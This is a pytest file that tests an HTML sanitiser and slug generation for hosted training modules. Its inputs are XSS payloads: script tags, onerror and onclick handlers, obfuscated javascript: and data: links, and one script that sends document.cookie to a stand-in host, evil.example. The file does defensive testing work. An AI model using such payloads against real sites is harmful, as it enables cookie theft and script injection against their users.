"""Hosted module content is sanitised before it is stored; slugs are plain ASCII."""

from __future__ import annotations

import pytest

from curriculum.text import is_slug, make_slug, sanitise_html, unique_slug
from tests.helpers import module_data

SAFE = ('<h2>Part one</h2><p lang="fr" dir="ltr">Voir <a href="https://example.org/guide">'
        'le <strong>guide</strong></a> et <em>la</em> <code>loi</code>.</p>'
        '<ul><li>Un</li></ul><table><tr><td colspan="2">x</td></tr></table>')


@pytest.mark.parametrize(("html", "expected"), [
    ("<p>Hi<script>alert(1)</script></p>", "<p>Hi</p>"),
    ('<img src="https://example.org/a.png" onerror="alert(1)" alt="A">',
     '<img src="https://example.org/a.png" alt="A">'),
    ('<a href="javascript:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<a href="java&#x09;script:alert(1)">x</a>', '<a rel="noopener noreferrer">x</a>'),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>',
     '<a rel="noopener noreferrer">x</a>'),
    ('<p style="color:red" onclick="steal()">t</p>', "<p>t</p>"),
    ("<style>p { display: none }</style><p>x</p>", "<p>x</p>"),
    ('<iframe src="https://example.org"></iframe><p>x</p>', "<p>x</p>"),
    ('<form action="https://example.org"><input name="q"></form><p>x</p>', "<p>x</p>"),
    ("<svg onload=alert(1)><p>x</p></svg>", "<p>x</p>"),
    ('<a href="https://example.org" target="_blank" rel="opener">x</a>',
     '<a href="https://example.org" rel="noopener noreferrer">x</a>'),
    ('<a href="mailto:training@example.org">Write</a>',
     '<a href="mailto:training@example.org" rel="noopener noreferrer">Write</a>'),
    ("<script>alert(1)</script>", None),
    ("   ", None),
    (None, None),
])
def test_the_sanitiser_removes_scripts_handlers_and_unsafe_links(html, expected):
    assert sanitise_html(html) == expected


def test_the_sanitiser_keeps_structure_emphasis_and_safe_links():
    cleaned = sanitise_html(SAFE)

    for kept in ("<h2>Part one</h2>", '<p lang="fr" dir="ltr">', "<strong>guide</strong>",
                 '<a href="https://example.org/guide" rel="noopener noreferrer">',
                 "<em>la</em>", "<code>loi</code>", "<ul><li>Un</li></ul>", '<td colspan="2">'):
        assert kept in cleaned


def test_sanitising_twice_changes_nothing_more():
    once = sanitise_html(SAFE + '<img src="https://example.org/a.png" onerror="x()">')

    assert sanitise_html(once) == once


def test_module_content_is_sanitised_before_it_is_stored(api, anonymous):
    html = ('<p>Read <a href="https://example.org">this</a>'
            '<script>fetch("https://evil.example/"+document.cookie)</script>'
            '<img src="https://example.org/a.png" onerror="alert(1)">'
            '<a href="javascript:alert(1)">click</a></p>')

    slug = api.post("/modules", module_data(content_html=html)).get_json()["slug"]

    body = anonymous.get(f"/modules/{slug}").get_json()
    assert body["content_html"] == (
        '<p>Read <a href="https://example.org" rel="noopener noreferrer">this</a>'
        '<img src="https://example.org/a.png"><a rel="noopener noreferrer">click</a></p>')
    assert body["is_hosted"] is True


def test_an_edit_of_the_content_is_sanitised_too(api, create_module):
    slug = create_module()["slug"]

    body = api.patch(f"/modules/{slug}", {"content_html": '<p onmouseover="x()">Hi</p>'}
                     ).get_json()

    assert body["content_html"] == "<p>Hi</p>"


def test_content_that_is_only_a_script_leaves_the_module_not_hosted(api):
    body = api.post("/modules", module_data(content_html="<script>alert(1)</script>")).get_json()

    assert (body["content_html"], body["is_hosted"]) == (None, False)


def test_imported_content_is_sanitised(upload, anonymous):
    upload('title,owner_agency,content_html\n'
           'Hosted,IOM,"<p>Hi</p><script>alert(1)</script><b onclick=""x()"">b</b>"\n')

    assert anonymous.get("/modules/hosted").get_json()["content_html"] == "<p>Hi</p><b>b</b>"


def test_a_title_is_text_and_is_kept_as_typed(api):
    title = '<script>alert("x")</script> & <b>bold</b>'

    body = api.post("/modules", module_data(title)).get_json()

    assert body["title"] == title
    assert body["slug"] == "script-alert-x-script-b-bold-b"


@pytest.mark.parametrize(("text", "slug"), [
    ("Introduction to International Migration Law", "introduction-to-international-migration-law"),
    ("مقدمة في قانون الهجرة", "mqdm-fy-qnwn-lhjr"),
    ("移民数据导论", "yi-min-shu-ju-dao-lun"),
    ("Gestión de la migración", "gestion-de-la-migracion"),
    ("🎉🎉", "item"),
    ("", "item"),
    ("  --  ", "item"),
])
def test_a_slug_is_ascii_transliterated_and_never_empty(text, slug):
    assert make_slug(text) == slug


def test_a_numbered_slug_stays_within_the_limit_without_a_double_hyphen():
    title = "a" * 97 + " b c"
    taken = {make_slug(title)}

    slug = unique_slug(title, taken.__contains__)

    assert len(slug) <= 100
    assert slug.endswith("-2")
    assert is_slug(slug)


@pytest.mark.parametrize(("text", "expected"), [
    ("iml-101", True),
    ("item", True),
    ("a" * 100, True),
    ("a" * 101, False),
    ("Iml", False),
    ("a--b", False),
    ("-a", False),
    ("a-", False),
    ("abc\n", False),
    ("a\x00b", False),
    ("", False),
])
def test_is_slug_accepts_only_the_slug_form(text, expected):
    assert is_slug(text) is expected
